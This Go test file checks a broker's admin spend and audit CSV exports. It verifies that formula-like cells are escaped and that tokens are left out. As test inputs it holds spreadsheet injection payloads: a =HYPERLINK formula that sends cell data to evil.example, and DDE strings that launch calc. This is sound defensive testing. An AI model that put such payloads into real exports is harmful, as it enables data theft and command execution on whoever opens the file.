package admin_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"mime"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/intentius/boxbroker/internal/admin"
	"github.com/intentius/boxbroker/internal/brokertest"
	"github.com/intentius/boxbroker/internal/payer"
	"github.com/intentius/boxbroker/internal/spend"
	"github.com/intentius/boxbroker/internal/store"
)

// settleFleet settles usage straight into the store: alpha's shared calls
// on a priced model, beta's calls paid by a principal on a model with no
// price (charged their bound), and a call last month.
func settleFleet(t *testing.T, b *brokertest.Broker, principal, model string) string {
	t.Helper()
	ctx := context.Background()
	st := b.Server.Store
	month := spend.Month(time.Now())
	last := spend.Month(time.Now().UTC().AddDate(0, 0, -time.Now().UTC().Day()))
	b.AddBox("alpha")
	b.AddBox("beta")
	settle := func(s store.Settlement) {
		t.Helper()
		for i := range s.Usage {
			s.Usage[i].Box, s.Usage[i].Month, s.Usage[i].Principal = s.Box, s.Month, s.Principal
		}
		if err := st.Settle(ctx, s); err != nil {
			t.Fatal(err)
		}
	}
	settle(store.Settlement{Box: "alpha", Month: month, Charge: 1_500_000,
		Usage: []store.Usage{{PayerKind: "shared", Model: "claude-sonnet-4-5", Calls: 3, InputTokens: 300, OutputTokens: 90, Cost: 1_500_000}}})
	settle(store.Settlement{Box: "beta", Month: month, Principal: principal, Charge: 10_000_000,
		Usage: []store.Usage{{PayerKind: "visitor", Model: model, Calls: 1, Unpriced: 1, InputTokens: 5}}})
	settle(store.Settlement{Box: "beta", Month: month, Charge: 250_000,
		Usage: []store.Usage{{PayerKind: "shared", Model: "claude-haiku-4-5", Calls: 2, Cost: 250_000}}})
	settle(store.Settlement{Box: "alpha", Month: last, Charge: 7_000_000,
		Usage: []store.Usage{{PayerKind: "shared", Model: "claude-sonnet-4-5", Calls: 9, Cost: 7_000_000}}})
	return last
}

func TestAdmin_FleetSpendByPayerPrincipalAndModel(t *testing.T) {
	b := brokertest.New(t, brokertest.Options{})
	last := settleFleet(t, b, "github:ann", "claude-opus-5-5")

	var f admin.FleetSpend
	decode(t, "GET /api/spend", b.Admin("GET", "/api/spend", b.AdminToken, nil), 200, &f)
	if f.Month != spend.Month(time.Now()) || f.Calls != 6 || f.Unpriced != 1 || f.MeasuredUSD != 1.75 || f.ChargedUSD != 11.75 {
		t.Errorf("GET /api/spend totals = %s %+v charged %v, want this month's 6 calls, 1 unpriced, $1.75 measured, $11.75 charged",
			f.Month, f.SpendCounts, f.ChargedUSD)
	}
	if len(f.ByPayer) != 2 || f.ByPayer[0].Payer != "shared" || f.ByPayer[0].Principal != nil || f.ByPayer[0].Calls != 5 ||
		f.ByPayer[1].Payer != "visitor" || f.ByPayer[1].Principal == nil || *f.ByPayer[1].Principal != "github:ann" {
		t.Errorf("byPayer = %+v, want shared (5 calls) then visitor github:ann", f.ByPayer)
	}
	if len(f.ByPrincipal) != 2 || f.ByPrincipal[0].Principal == nil || *f.ByPrincipal[0].Principal != "github:ann" ||
		f.ByPrincipal[0].ChargedUSD != 10 || f.ByPrincipal[0].MeasuredUSD != 0 ||
		f.ByPrincipal[1].Principal != nil || f.ByPrincipal[1].ChargedUSD != 1.75 || f.ByPrincipal[1].MeasuredUSD != 1.75 {
		t.Errorf("byPrincipal = %+v, want github:ann charged $10 (measured $0), then none charged $1.75", f.ByPrincipal)
	}
	var models []string
	for _, m := range f.ByModel {
		models = append(models, m.Model)
		if want := m.Model != "claude-opus-5-5"; m.Priced != want {
			t.Errorf("byModel %s priced = %v, want %v", m.Model, m.Priced, want)
		}
	}
	if got := strings.Join(models, " "); got != "claude-sonnet-4-5 claude-haiku-4-5 claude-opus-5-5" {
		t.Errorf("byModel = %s, want the dearest first", got)
	}
	if len(f.ByBox) != 2 || f.ByBox[0].Box != "beta" || f.ByBox[0].ChargedUSD != 10.25 || f.ByBox[1].ChargedUSD != 1.5 {
		t.Errorf("byBox = %+v, want beta charged $10.25 then alpha $1.50", f.ByBox)
	}
	if len(f.Usage) != 3 {
		t.Errorf("usage = %+v, want 3 lines", f.Usage)
	}

	decode(t, "GET /api/spend?month=last", b.Admin("GET", "/api/spend?month="+last, b.AdminToken, nil), 200, &f)
	if f.Month != last || f.Calls != 9 || f.ChargedUSD != 7 {
		t.Errorf("GET /api/spend?month=%s = %s %d calls $%v charged, want 9 calls $7", last, f.Month, f.Calls, f.ChargedUSD)
	}
	refusal(t, "GET /api/spend?month=soon", b.Admin("GET", "/api/spend?month=soon", b.AdminToken, nil), http.StatusBadRequest)
	refusal(t, "GET /api/spend.csv?by=colour", b.Admin("GET", "/api/spend.csv?by=colour", b.AdminToken, nil), http.StatusBadRequest)
}

// readCSV checks a CSV download's headers and returns its rows.
func readCSV(t *testing.T, what string, resp brokertest.Response, wantFile string) [][]string {
	t.Helper()
	if resp.StatusCode != 200 {
		t.Fatalf("%s = %d %s, want 200", what, resp.StatusCode, resp.Body)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("%s Content-Type = %q, want text/csv; charset=utf-8", what, ct)
	}
	disp, params, err := mime.ParseMediaType(resp.Header.Get("Content-Disposition"))
	if err != nil || disp != "attachment" || !strings.HasPrefix(params["filename"], wantFile) || !strings.HasSuffix(params["filename"], ".csv") {
		t.Errorf("%s Content-Disposition = %q, want an attachment named %s….csv", what, resp.Header.Get("Content-Disposition"), wantFile)
	}
	rows, err := csv.NewReader(bytes.NewReader(resp.Body)).ReadAll()
	if err != nil {
		t.Fatalf("%s is not CSV: %v\n%s", what, err, resp.Body)
	}
	return rows
}

func TestAdmin_SpendCSVEscapesFormulas(t *testing.T) {
	b := brokertest.New(t, brokertest.Options{})
	evilPrincipal := `=HYPERLINK("http://evil.example/?"&A1,"x")`
	evilModel := "@SUM(1+1)*cmd|' /C calc'!A0"
	settleFleet(t, b, evilPrincipal, evilModel)
	month := spend.Month(time.Now())

	for _, by := range admin.SpendCSVGrains {
		rows := readCSV(t, "spend.csv by "+by, b.Admin("GET", "/api/spend.csv?by="+by, b.AdminToken, nil), "boxbroker-spend-"+month+"-by-"+by)
		if len(rows) < 2 || rows[0][0] != "month" {
			t.Fatalf("spend.csv by %s = %q, want a header and rows", by, rows)
		}
		for _, r := range rows[1:] {
			for _, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("spend.csv by %s holds cell %q, which a spreadsheet runs as a formula", by, cell)
				}
			}
		}
		body := string(b.Admin("GET", "/api/spend.csv?by="+by, b.AdminToken, nil).Body)
		if (by == "usage" || by == "payer" || by == "principal") && !strings.Contains(body, "'"+evilPrincipal[:10]) {
			t.Errorf("spend.csv by %s does not hold the principal as text ('=HYPERLINK…): %s", by, body)
		}
		if (by == "usage" || by == "model") && !strings.Contains(body, "'"+evilModel) {
			t.Errorf("spend.csv by %s does not hold the model as text ('@SUM…): %s", by, body)
		}
	}
	rows := readCSV(t, "spend.csv", b.Admin("GET", "/api/spend.csv", b.AdminToken, nil), "boxbroker-spend-"+month+"-by-usage")
	want := "month,box,payer,principal,model,calls,unpriced,unmeasured,input_tokens,output_tokens,cache_write_tokens,cache_read_tokens,measured_usd"
	if got := strings.Join(rows[0], ","); got != want {
		t.Errorf("spend.csv header = %s, want %s", got, want)
	}
	if got := strings.Join(rows[1], ","); got != month+",alpha,shared,,claude-sonnet-4-5,3,0,0,300,90,0,0,1.500000" {
		t.Errorf("spend.csv first row = %s, want alpha's priced calls", got)
	}
	if r := b.Admin("GET", "/api/spend.csv", "", nil); r.StatusCode != http.StatusUnauthorized {
		t.Errorf("spend.csv with no token = %d, want 401", r.StatusCode)
	}
	for _, c := range []struct{ in, want string }{
		{"=1+2", "'=1+2"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@x", "'@x"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
		{"a=1", "a=1"}, {"", ""}, {"claude-sonnet-4-5", "claude-sonnet-4-5"},
	} {
		if got := admin.CSVCell(c.in); got != c.want {
			t.Errorf("CSVCell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestAdmin_AuditCSVHoldsNoToken(t *testing.T) {
	b := brokertest.New(t, brokertest.Options{})
	box := b.AddBox("alpha")
	b.SetCredential(payer.SharedAnthropic, sharedKey)
	b.Report(box, brokertest.Entry("inference", "agent"))
	b.PaidBy(t, box, "", "shared", sharedKey)
	// Refused: a box token with a suffix, and a grant that is no grant.
	b.Do("POST", "/llm/anthropic/v1/messages", box+"x", []byte(brokertest.MessagesBody), http.Header{"Content-Type": {"application/json"}})
	b.Call(t, box, "grant-not-a-real-one-"+sharedKey)
	ctx := context.Background()
	if err := b.Server.Store.AddAudit(ctx, []store.AuditEntry{{Box: "alpha", At: time.Now(), Method: "POST", Route: "/llm/anthropic/v1/messages",
		Capability: "inference", Status: 403, Reason: "declaration", Message: "=cmd|' /C calc'!A0"}}); err != nil {
		t.Fatal(err)
	}
	if err := b.Server.Audit.Sync(ctx); err != nil {
		t.Fatal(err)
	}

	resp := b.Admin("GET", "/api/audit.csv", b.AdminToken, nil)
	rows := readCSV(t, "audit.csv", resp, "boxbroker-audit-")
	for _, secret := range []string{box, box + "x", sharedKey, b.AdminToken, "sk-ant"} {
		if bytes.Contains(resp.Body, []byte(secret)) {
			t.Errorf("audit.csv holds %q:\n%s", secret, resp.Body)
		}
	}
	want := "id,at,box,method,route,capability,words,status,reason,message,duration_ms,upstream_status,paid_by,bytes,usd"
	if got := strings.Join(rows[0], ","); got != want {
		t.Errorf("audit.csv header = %s, want %s", got, want)
	}
	var served, escaped bool
	for _, r := range rows[1:] {
		served = served || r[2] == "alpha" && r[4] == "/llm/anthropic/v1/messages" && r[7] == "200"
		escaped = escaped || r[9] == "'=cmd|' /C calc'!A0"
	}
	if !served || !escaped || len(rows) < 4 {
		t.Errorf("audit.csv = %q, want the served call and the refusal's message as text ('=cmd…)", rows)
	}
	rows = readCSV(t, "audit.csv?refusals=true&limit=1", b.Admin("GET", "/api/audit.csv?refusals=true&limit=1", b.AdminToken, nil), "boxbroker-audit-")
	if len(rows) != 2 || rows[1][8] == "" {
		t.Errorf("audit.csv?refusals=true&limit=1 = %q, want one refusal", rows)
	}
	refusal(t, "audit.csv?limit=0", b.Admin("GET", "/api/audit.csv?limit=0", b.AdminToken, nil), http.StatusBadRequest)
}
